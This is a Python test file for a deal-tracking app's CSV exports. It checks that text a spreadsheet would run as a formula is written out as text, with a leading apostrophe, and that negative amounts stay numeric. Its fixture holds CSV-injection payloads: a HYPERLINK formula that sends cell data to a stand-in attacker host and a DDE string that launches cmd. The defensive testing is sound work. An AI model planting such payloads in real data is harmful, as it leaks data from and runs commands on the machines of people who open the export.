"""Every CSV export of the views (deals, a feature's deals, exposure by feature and by stage,
the ledger, approvals, the leadership report) writes CRM and rep text a spreadsheet would run
as a formula as text ('=...' gets a leading apostrophe, OWASP's advice), and leaves numbers,
negative amounts included, as numbers. One writer (`queries.to_csv`) serves them all; this
holds every route to it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from sqlmodel import Session

from app.models import Approval, Commitment, Deal, Feature
from app.rules.model import EvaluationResult, FeatureReference, VerdictStatus
from app.services.pipeline import replace_dependencies

NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
STAGE = "+Negotiation"
QUOTE = "-2+3 we promised SSO"
ACCOUNT = "\tAcme"
REASON = "\rapproved"


@pytest.fixture
def hostile(engine):
    with Session(engine) as s:
        s.add(Feature(key="sso", name="=Single sign-on", availability="coming_soon",
                      target_date=date(2027, 3, 31)))  # fmt: skip
        deal = Deal(crm="hubspot", deal_id="h1", name=NAME, pipeline="default",
                    stage_id="neg", stage_label=STAGE, probability=0.5,
                    amount=Decimal("-1200.50"), currency="USD", close_date=date(2027, 1, 31),
                    owner_id="o1", owner_name=OWNER, account_name=ACCOUNT, verdict="blocked",
                    snapshot={"crm": "hubspot", "deal_id": "h1", "stage": {"id": "neg"}})  # fmt: skip
        s.add(deal)
        s.flush()
        replace_dependencies(
            s,
            deal,
            EvaluationResult(
                status=VerdictStatus.blocked,
                references=[
                    FeatureReference(
                        feature_key="sso",
                        feature_name="=Single sign-on",
                        source="note",
                        evidence=QUOTE,
                        is_commitment=True,
                    )
                ],  # fmt: skip
            ),
        )
        signed = datetime.now(UTC) - timedelta(days=1)
        s.add(Commitment(crm="hubspot", deal_id="h1", deal_name=NAME, account_name=ACCOUNT,
                         owner_id="o1", feature_key="sso", promise_key="sso",
                         feature_name="=Single sign-on", evidence=QUOTE, approver=OWNER,
                         availability_at_signing="coming_soon", amount=Decimal("-1200.50"),
                         currency="USD", signed_at=signed))  # fmt: skip
        s.add(Approval(crm="hubspot", deal_id="h1", feature_key="sso", reason=REASON,
                       approver=OWNER, expires_at=signed + timedelta(days=30),
                       created_at=signed))  # fmt: skip
        s.commit()


def _csv(client, headers, url):
    r = client.get(url, headers=headers)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.text)))


def test_every_export_writes_formulas_as_text_and_numbers_as_numbers(client, api_key, hostile):
    h = api_key("engineering")
    for url in ("/api/v1/deals?format=csv", "/api/v1/features/sso/deals?format=csv"):
        [row] = _csv(client, h, url)
        assert row["name"] == "'" + NAME
        assert row["owner_name"] == "'" + OWNER
        assert row["stage_label"] == "'" + STAGE
        assert row["account_name"] == "'" + ACCOUNT
        assert row["amount"] == "-1200.5"  # a number, negative: no apostrophe
        if "features" in url:
            assert row["evidence"] == "'" + QUOTE
    [row] = _csv(client, h, "/api/v1/exposure?format=csv")
    assert (row["feature_name"], row["amount"], row["weighted_amount"]) == (
        "'=Single sign-on", "-1200.5", "-600.25")  # fmt: skip
    [row] = _csv(client, h, "/api/v1/exposure?format=csv&csv_rows=stage")
    assert (row["stage_label"], row["amount"]) == ("'" + STAGE, "-1200.5")
    [row] = _csv(client, h, "/api/v1/commitments?format=csv")
    assert (row["deal_name"], row["evidence"], row["approver"], row["amount"]) == (
        "'" + NAME, "'" + QUOTE, "'" + OWNER, "-1200.5")  # fmt: skip
    [row] = _csv(client, h, "/api/v1/approvals?format=csv")
    assert (row["reason"], row["approver"]) == ("'" + REASON, "'" + OWNER)
    rows = _csv(client, h, "/api/v1/reports/commitments?format=csv")
    [by_approver] = [r for r in rows if r["section"] == "commitments_by_approver"]
    assert (by_approver["item"], by_approver["amount"]) == ("'" + OWNER, "-1200.5")
